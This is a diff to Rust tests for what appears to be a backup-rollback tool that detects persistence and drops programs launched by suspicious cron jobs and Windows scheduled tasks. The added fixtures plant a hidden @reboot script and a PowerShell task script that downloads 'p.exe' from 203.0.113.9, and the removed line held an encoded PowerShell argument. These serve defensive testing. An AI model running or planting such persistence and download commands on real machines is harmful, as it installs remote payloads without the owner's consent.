@@ -1031,8 +1031,14 @@ fn a_rollback_leaves_out_the_program_a_flagged_job_starts() {
             write_guest_file(&img, "/usr/local/bin/.upd", &noise(6000, 77));
             write_guest_file(
                 &img,
+                "/home/alice/.local.sh",
+                b"#!/bin/sh\n/usr/local/bin/.upd\n",
+            );
+            // Two jobs: a program, and a script given to the shell.
+            write_guest_file(
+                &img,
                 "/etc/cron.d/updater",
-                b"*/5 * * * * root /usr/local/bin/.upd --quiet\n",
+                b"*/5 * * * * root /usr/local/bin/.upd --quiet\n@reboot root /bin/sh /home/alice/.local.sh\n",
             );
         }
         env.backup(&img, "vm", &format!("2026-01-0{day}T00:00:00Z"));
@@ -1059,7 +1065,14 @@ fn a_rollback_leaves_out_the_program_a_flagged_job_starts() {
         Some("dropped"),
         "{rb:#}"
     );
+    assert_eq!(
+        action("/home/alice/.local.sh").as_deref(),
+        Some("dropped"),
+        "{rb:#}"
+    );
     assert!(!out_dir.join("usr/local/bin/.upd").exists());
+    assert!(!out_dir.join("home/alice/.local.sh").exists());
+    assert!(out_dir.join("home/alice/notes.txt").exists());
     assert!(out_dir.join("etc/crontab").exists());
 }
 
@@ -1543,11 +1556,19 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
     }
     // Task Scheduler writes its XML in UTF-16 with a byte-order mark.
     let task = env.path("task.xml");
-    let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-enc SQBFAFgA</Arguments></Exec></Actions></Task>\r\n";
+    let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions><Exec><Command>powershell.exe</Command><Arguments>-File C:\\ProgramData\\Microsoft\\Windows\\t.ps1</Arguments></Exec></Actions></Task>\r\n";
     let mut utf16 = vec![0xff, 0xfe];
     utf16.extend(xml.encode_utf16().flat_map(|u| u.to_le_bytes()));
     std::fs::write(&task, utf16).unwrap();
     ntfs_put(&part, &task, "/Windows/System32/Tasks/SystemHealthCheck");
+    // The script the task gives PowerShell.
+    let script = env.path("t.ps1");
+    std::fs::write(
+        &script,
+        "Invoke-WebRequest http://203.0.113.9/p -OutFile $env:TEMP\\p.exe\r\n",
+    )
+    .unwrap();
+    ntfs_put(&part, &script, "/ProgramData/Microsoft/Windows/t.ps1");
     // And the registry ways in: a Run value and an automatic service.
     hivexsh(
         &software,
@@ -1601,7 +1622,7 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
     assert!(
         v["persistence"]
             .to_string()
-            .contains("<Command>powershell.exe</Command><Arguments>-enc SQBFAFgA"),
+            .contains(r"<Command>powershell.exe</Command><Arguments>-File C:\\ProgramData\\Microsoft\\Windows\\t.ps1"),
         "the task's command is quoted as text: {v:#}"
     );
     let details: Vec<&str> = v["persistence"]
@@ -1666,6 +1687,12 @@ fn a_new_startup_program_and_a_new_scheduled_task_on_windows_are_reported() {
         !out_dir
             .join("Windows/System32/Tasks/SystemHealthCheck")
             .exists()
+    );
+    // ...and the script the task runs (PowerShell itself is not touched).
+    assert!(out_dir.join("ProgramData/Microsoft/Windows").is_dir());
+    assert!(
+        !out_dir.join("ProgramData/Microsoft/Windows/t.ps1").exists(),
+        "the task's script is left out"
     );
     let p: Value =
         serde_json::from_slice(&std::fs::read(env.path("back.cairn-provenance.json")).unwrap())
